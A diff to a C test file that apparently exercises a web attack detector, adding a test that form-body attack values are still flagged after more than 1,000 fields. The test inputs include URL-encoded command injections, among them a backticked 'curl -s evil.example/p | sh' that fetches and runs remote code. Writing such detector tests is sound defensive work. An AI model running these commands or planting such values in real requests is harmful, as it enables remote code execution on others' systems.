@@ -105,6 +105,53 @@ static void test_deep_encoding(const lw_engine_t *e, apr_pool_t *p)
     CHECK(classify(e, "/s?q=100%25+sure+50%+off", p, &res) == 0);
 }
 
+/* A form body of n short fields, then the value v as "q". */
+static int classify_form(const lw_engine_t *e, int n, const char *v,
+                         apr_pool_t *p, lw_result_t *res)
+{
+    lw_header_t h[1] = { { "User-Agent", UA } };
+    lw_request_t req;
+    lw_limits_t lim;
+    char *body = apr_palloc(p, (apr_size_t)n * 8 + strlen(v) + 8), *d = body;
+    int i;
+
+    for (i = 0; i < n; i++)
+        d += apr_snprintf(d, 9, "f%d=v&", i % 1000);
+    strcpy(d, "q=");
+    strcat(d, v);
+    lw_limits_default(&lim);
+    memset(&req, 0, sizeof(req));
+    req.method = "POST";
+    req.uri = "/form.php";
+    req.protocol = "HTTP/1.1";
+    req.headers = h;
+    req.nheaders = 1;
+    req.body = body;
+    req.body_len = strlen(body);
+    req.body_type = "application/x-www-form-urlencoded";
+    return lw_classify(e, &req, &lim, p, res);
+}
+
+static void test_form_fields_past_the_bound(const lw_engine_t *e,
+                                            apr_pool_t *p)
+{
+    /* values only a detector flags, after more fields than the reader
+     * yields one by one (LW_BODY_MAX_FIELDS) */
+    static const char *const attacks[] = {
+        "%3Buname+-a", "%21%21%5B%5D%2B%21%21%5B%5D%2B%5B%5D",
+        "Please+%60curl+-s+evil.example%2Fp+%7C+sh%60+thanks"
+    };
+    lw_result_t res;
+    int i;
+
+    for (i = 0; i < 3; i++) {
+        CHECK(classify_form(e, 10, attacks[i], p, &res) == 1);
+        CHECK(classify_form(e, 1100, attacks[i], p, &res) == 1);
+    }
+    CHECK(classify_form(e, 1100, "hello+world%2C+see+you+at+5", p, &res) == 0);
+    CHECK(classify_form(e, 3000, "a+b", p, &res) == 0);
+}
+
 int main(void)
 {
     lw_engine_t *e;
@@ -115,6 +162,7 @@ int main(void)
     if (e) {
         test_overlong_and_nul_escapes(e, p);
         test_deep_encoding(e, p);
+        test_form_fields_past_the_bound(e, p);
     }
     LW_TEST_END();
 }
